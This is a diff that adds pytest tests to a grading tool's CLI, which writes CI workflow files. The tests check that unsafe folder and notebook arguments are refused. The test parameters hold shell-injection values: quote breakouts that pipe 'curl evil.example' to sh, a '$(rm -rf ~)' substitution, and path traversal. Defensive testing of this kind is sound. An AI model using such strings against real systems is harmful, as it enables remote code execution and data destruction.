@@ -16,7 +16,9 @@ from pathlib import Path
 import numpy as np
 import pytest
 import yaml
+from click.testing import CliRunner
 
+from grader.cli import main
 from grader.config import load_config
 from grader.data import assignment_split, synthetic_interactions
 from grader.instructor.ci import WorkflowSettings, render_workflow
@@ -169,3 +171,28 @@ def test_every_generated_workflow_parses(provider: str, kind: str) -> None:
     else:
         (job,) = document.values()
         assert job["script"] and job["artifacts"]["when"] == "always"
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["--submissions", 'class" && curl evil.example | sh #'],
+        ["--submissions", "$(rm -rf ~)"],
+        ["--submissions", "../elsewhere"],
+        ["--kind", "practice", "--notebook", "a.ipynb; curl evil.example"],
+    ],
+)
+def test_a_folder_or_pattern_the_workflow_cannot_hold_literally_is_refused(arguments: list[str], tmp_path: Path) -> None:
+    output = tmp_path / "workflow.yml"
+    result = CliRunner().invoke(main, ["ci", "github", *arguments, "--output", str(output)])
+    assert result.exit_code == 2 and "written into the workflow's YAML and shell lines" in result.output, result.output
+    assert not output.exists()
+
+
+def test_ordinary_folders_and_patterns_are_written_as_given(tmp_path: Path) -> None:
+    output = tmp_path / "workflow.yml"
+    result = CliRunner().invoke(main, ["ci", "github", "--submissions", "2026/hw-2_recsys", "--output", str(output)])
+    assert result.exit_code == 0, result.output
+    assert '"2026/hw-2_recsys/**"' in output.read_text()
+    result = CliRunner().invoke(main, ["ci", "gitlab", "--kind", "practice", "--notebook", "part[12]_*.ipynb", "--output", str(output)])
+    assert result.exit_code == 0 and "part[12]_*.ipynb" in output.read_text(), result.output
